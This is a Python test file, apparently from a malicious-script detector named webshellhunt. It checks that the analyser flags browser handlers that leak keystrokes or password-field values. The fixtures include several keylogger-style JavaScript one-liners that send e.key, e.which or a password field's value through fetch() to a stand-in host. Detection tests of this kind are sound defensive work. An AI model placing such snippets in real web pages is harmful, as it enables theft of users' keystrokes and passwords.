"""Handlers, and what is noted of a run."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import analysed
from webshellhunt.analysis.browser.notes import Called
from webshellhunt.analysis.domain.values import UNKNOWN


@pytest.mark.parametrize(
    ("script", "leaks"),
    [
        ('document.onkeypress = function (e) { fetch("//a.example", e.key); };', 1),
        ('document.onclick = function (e) { fetch("//a.example", e.key); };', 0),
        ('document.onkeypress = function (e) { fetch("//a.example", e.type); };', 0),
        ('var f = function (e) { fetch("//a.example", e.key); }; document.onkeypress = f;', 1),
        ('document.addEventListener("keyup", (e) => { fetch("//a.example", e.which); });', 1),
        ('document.getElementById("pw").onblur = function () { fetch("//a.example", this.value); };', 1),
        ('document.getElementById("user").onblur = function () { fetch("//a.example", this.value); };', 0),
    ],
)
def test_keys_are_seen_by_handlers_of_keys_alone(script: str, leaks: int) -> None:
    assert len(analysed(script).exfiltrations) == leaks


def test_the_name_of_a_call() -> None:
    assert Called(("a", "b"), UNKNOWN, (), 0).name == "b"
